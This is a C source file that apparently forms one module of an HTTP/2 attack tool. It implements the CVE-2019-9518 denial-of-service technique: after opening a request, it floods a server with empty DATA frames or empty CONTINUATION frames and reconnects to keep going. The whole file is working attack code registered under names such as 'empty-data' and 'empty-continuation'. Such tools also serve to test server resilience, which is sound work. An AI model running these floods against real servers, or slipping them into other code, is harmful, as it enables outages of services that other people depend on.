/* SPDX-License-Identifier: Apache-2.0 */
/* CVE-2019-9518: frames of a request that bring it no further. */
#include "attack.h"

static bool turn_data(client *c)
{
    if (c->step == 0) {
        put_post(c, "application/json", 1, END_HEADERS);
    }
    while (c->out_size < FLOOD) {
        put_frame(c, DATA, 0, 1, NULL, 0);
    }
    return true;
}

static bool turn_continuation(client *c)
{
    if (c->step == 0) {
        put_request(c, "GET", END_STREAM);
    }
    while (c->out_size < FLOOD) {
        put_frame(c, CONTINUATION, 0, 1, NULL, 0);
    }
    return true;
}

const attack empty_data = {
    .name = "empty-data",
    .help = "empty DATA frames",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_data,
};

const attack empty_continuation = {
    .name = "empty-continuation",
    .help = "empty CONTINUATION frames",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_continuation,
};
